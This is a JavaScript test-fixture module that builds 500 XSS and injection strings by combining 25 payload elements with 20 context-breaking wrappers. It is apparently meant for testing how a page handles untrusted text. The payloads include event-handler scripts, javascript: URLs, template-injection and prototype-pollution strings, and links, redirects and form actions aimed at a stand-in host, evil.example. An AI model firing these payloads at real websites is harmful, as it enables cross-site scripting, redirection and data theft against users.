// Texts that would do something if a page took them for HTML, for a script, an address, a style or
// a template: 500 different ones. What runs sets `globalThis.pwned`.

const RUN = 'globalThis.pwned=1';

const ELEMENTS = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><button>x</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `javascript:${RUN}`,
  '${globalThis.pwned=1}',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  `&lt;img src=x onerror=${RUN}&gt;`,
  `expression(${RUN})`,
  `\u202e<img src=x onerror=${RUN}>`,
];

const WRAPPINGS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</script>${text}`,
  (text) => `</style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `\`\${'${text}'}\``,
  (text) => `"onmouseover="${RUN}" x="${text}`,
  (text) => `' style='position:fixed;inset:0' x='${text}`,
  (text) => `\\">${text}`,
  (text) => `${text}`.toUpperCase(),
  (text) => `<<${text}`,
  (text) => `${text} مرحبا`,
  (text) => `Köhler & Söhne ${text}`,
  (text) => `${text}${'x'.repeat(300)}`,
  (text) => `{"__proto__":{"html":"${text}"}}`,
  (text) => `;${text}//`,
];

export const HOSTILE_TEXTS = WRAPPINGS.flatMap((wrap) => ELEMENTS.map(wrap));
